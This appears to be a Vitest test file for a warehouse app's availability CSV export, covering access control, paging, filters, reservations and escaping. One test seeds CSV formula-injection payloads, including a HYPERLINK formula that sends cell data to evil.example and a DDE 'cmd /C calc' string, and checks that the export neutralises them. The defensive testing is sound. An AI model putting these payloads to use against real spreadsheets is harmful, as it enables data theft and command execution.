import { describe, expect } from "vitest";
import type { TestDb } from "../testing/db";
import { rest, seedSession, seedWarehouse } from "../testing/fixtures";
import { test } from "../testing/test";
import { exportAvailabilityCsv } from "./availability-export";

let t: TestDb;
let manager: string;
let operator: string;
let key: string;

test.beforeAll(async ({ db, key: k }) => {
  t = db;
  key = k;
  await seedWarehouse(t.prisma, "M1");
  await seedWarehouse(t.prisma, "M2");
  await t.pool.query(
    `INSERT INTO articoli (codice, descrizione) SELECT 'ART-' || lpad(g::text, 4, '0'), 'Articolo ' || g FROM generate_series(1, 1200) g`,
  );
  await t.pool.query(`INSERT INTO articoli (codice, descrizione) VALUES ('VITE', 'Vite; "speciale"')`);
  const m1 = (await t.pool.query("SELECT id FROM magazzini WHERE codice = 'M1'")).rows[0].id;
  await rest("POST", "/movimenti", {
    key,
    body: {
      natura: "carico",
      magazzino: m1,
      righe: [
        { codice: "VITE", quantita: 12.5 },
        { codice: "ART-0007", quantita: 3 },
      ],
    },
  });
  manager = (await seedSession(t.prisma, "capo", "responsabile")).cookie;
  operator = (await seedSession(t.prisma, "banco", "operatore")).cookie;
});

const get = (query = "", cookie?: string) =>
  exportAvailabilityCsv(new Request(`http://localhost/api/esportazioni/disponibilita${query}`, { headers: cookie ? { cookie } : {} }));

async function chunks(res: Response): Promise<string[]> {
  const out: string[] = [];
  const reader = res.body!.getReader();
  // ignoreBOM: keep the byte-order mark in the text, to see that it is sent.
  const decoder = new TextDecoder("utf-8", { ignoreBOM: true });
  for (;;) {
    const { done, value } = await reader.read();
    if (done) return out;
    out.push(decoder.decode(value));
  }
}

describe("GET /api/esportazioni/disponibilita", () => {
  test("only for a signed-in manager", async () => {
    const anonymous = await get();
    expect(anonymous.status).toBe(401);
    expect(await anonymous.json()).toMatchObject({ codice: "non_autenticato" });
    const op = await get("", operator);
    expect(op.status).toBe(403);
    expect(await op.json()).toMatchObject({ codice: "permesso_negato" });
  });

  test("every stocked article, streamed page by page, in the spreadsheet's form", async () => {
    const res = await get("", manager);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="disponibilita-\d{4}-\d{2}-\d{2}\.csv"$/);
    const parts = await chunks(res);
    // The header goes out first, alone; then one chunk per page of 500.
    expect(parts[0]).toBe("\uFEFFcodice;descrizione;giacenza;in_arrivo;prenotata;disponibile;giacenza_M1;giacenza_M2\n");
    expect(parts).toHaveLength(4);
    const lines = parts
      .join("")
      .replace(/^\uFEFF/, "")
      .trimEnd()
      .split("\n");
    expect(lines).toHaveLength(1 + 1201);
    expect(lines[1]).toBe("ART-0001;Articolo 1;0;0;0;0;0;0");
    expect(lines).toContain('VITE;"Vite; ""speciale""";12,5;0;0;12,5;12,5;0');
    expect(lines).toContain("ART-0007;Articolo 7;3;0;0;3;3;0");
  });

  test("the screen's filters apply; a bad one is refused like on /api/v1", async () => {
    const m2 = (await t.pool.query("SELECT id FROM magazzini WHERE codice = 'M2'")).rows[0].id;
    const filtered = (await chunks(await get(`?cerca=vite&magazzino=${m2}`, manager))).join("");
    expect(filtered).toBe('\uFEFFcodice;descrizione;giacenza;in_arrivo;prenotata;disponibile\nVITE;"Vite; ""speciale""";0;0;0;0\n');
    const bad = await get("?limite=5", manager);
    expect(bad.status).toBe(422);
    expect(await bad.json()).toMatchObject({ codice: "filtro_non_valido", campo: "limite" });
    const unknown = await get("?magazzino=999999", manager);
    expect(unknown.status).toBe(422);
    expect(await unknown.json()).toMatchObject({ codice: "magazzino_non_trovato" });
    const nul = await get("?cerca=vi%00te", manager);
    expect(nul.status).toBe(422);
    expect(await nul.json()).toMatchObject({ codice: "filtro_non_valido", campo: "cerca" });
  });

  test("a text cell that would start a formula is written as text (OWASP), numbers stay numbers", async () => {
    await t.pool.query(`INSERT INTO articoli (codice, descrizione) VALUES
      ('FORMULA-1', '=HYPERLINK("http://evil.example/?x="&A1,"Dettagli")'),
      ('FORMULA-2', '@SUM(1+1)*cmd|'' /C calc''!A0'),
      ('FORMULA-3', '-2+3'),
      ('FORMULA-4', '+39 051'),
      ('FORMULA-5', E'\tnascosto')`);
    const lines = (await chunks(await get("?cerca=formula-", manager)))
      .join("")
      .replace(/^\uFEFF/, "")
      .trimEnd()
      .split("\n");
    expect(lines.slice(1)).toEqual([
      `FORMULA-1;"'=HYPERLINK(""http://evil.example/?x=""&A1,""Dettagli"")";0;0;0;0;0;0`,
      "FORMULA-2;'@SUM(1+1)*cmd|' /C calc'!A0;0;0;0;0;0;0",
      "FORMULA-3;'-2+3;0;0;0;0;0;0",
      "FORMULA-4;'+39 051;0;0;0;0;0;0",
      "FORMULA-5;'\tnascosto;0;0;0;0;0;0",
    ]);
  });

  test("prenotata and disponibile beside giacenza, as GET /disponibilita has them; a past day's file has neither", async () => {
    await t.pool.query("INSERT INTO clienti (codice, ragione_sociale, data) VALUES ('C-CSV', 'Cliente CSV', current_date)");
    const reservation = {
      riferimento: "CSV-1",
      magazzino: "M1",
      cliente: "C-CSV",
      righe: [{ numero_riga: 1, codice: "VITE", quantita: 4 }],
    };
    const held = await rest("POST", "/prenotazioni", { key, body: { prenotazioni: [reservation] } });
    expect(held.body.righe[0].esito, JSON.stringify(held.body)).toBe("creata");
    const text = async (query: string) =>
      (await chunks(await get(query, manager)))
        .join("")
        .replace(/^\uFEFF/, "")
        .trimEnd()
        .split("\n");
    expect(await text("?cerca=vite")).toEqual([
      "codice;descrizione;giacenza;in_arrivo;prenotata;disponibile;giacenza_M1;giacenza_M2",
      'VITE;"Vite; ""speciale""";12,5;0;4;8,5;12,5;0',
    ]);
    const api = await rest("GET", "/disponibilita?codice=VITE", { key });
    expect(api.body.disponibilita[0]).toMatchObject({ giacenza: "12.5", prenotata: "4", disponibile: "8.5" });
    expect(await text("?cerca=vite&a=2020-01-01")).toEqual([
      "codice;descrizione;giacenza;in_arrivo;giacenza_M1;giacenza_M2",
      'VITE;"Vite; ""speciale""";0;0;0;0',
    ]);
  });
});
